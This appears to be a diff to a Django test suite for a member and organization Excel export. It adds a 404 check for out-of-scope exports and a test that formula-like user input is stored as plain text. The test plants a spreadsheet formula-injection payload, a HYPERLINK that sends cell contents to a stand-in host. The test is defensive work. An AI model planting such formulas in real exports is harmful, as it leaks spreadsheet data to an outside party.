@@ -61,13 +61,41 @@ def test_export_applies_the_list_filters(client, tree, specialist):
     assert _names(sheet) == [man.full_name]
 
 
-def test_export_filtered_on_an_organization_out_of_scope_is_empty(client, tree, specialist):
+def test_export_filtered_on_an_organization_out_of_scope_is_refused(client, tree, specialist):
     """GIVEN a specialist of commune A
-    WHEN they export with to_chuc set to commune B
-    THEN the file holds the header only."""
-    sheet = _export(client, specialist, to_chuc=tree.commune_b.pk)
+    WHEN they export members with to_chuc set to commune B, or to an id that does not exist
+    THEN the answer is 404, as for the organization export, and no file is sent."""
+    client.force_login(specialist)
+    url = reverse("organizations_xlsx:member_export")
 
-    assert _names(sheet) == []
+    for org_id in (tree.commune_b.pk, 999_999):
+        response = client.get(url, {"to_chuc": org_id})
+        assert response.status_code == 404
+        assert not response.get("Content-Type", "").startswith("application/vnd")
+
+
+def test_user_text_is_written_as_text_never_as_a_formula(client, tree, specialist):
+    """GIVEN a member whose hometown and name were typed as formulas, in an organization named
+    like one WHEN the member and organization lists are exported THEN every such cell reads
+    back as a string cell holding the typed text."""
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A2,"Xem")'
+    tree.member_a1.hometown = formula
+    tree.member_a1.save(update_fields=["hometown"])
+    tree.commune_a.name = "=1+2"
+    tree.commune_a.save(update_fields=["name"])
+
+    members = _export(client, specialist)
+    organizations = _export(client, specialist, name="organization_export")
+
+    written = [
+        c
+        for sheet in (members, organizations)
+        for row in sheet.iter_rows(min_row=2)
+        for c in row
+        if isinstance(c.value, str) and c.value.startswith("=")
+    ]
+    assert {c.value for c in written} >= {formula, "=1+2"}
+    assert {c.data_type for c in written} == {"s"}
 
 
 @pytest.mark.parametrize("role", [Role.CLERK, Role.ARCHIVIST])
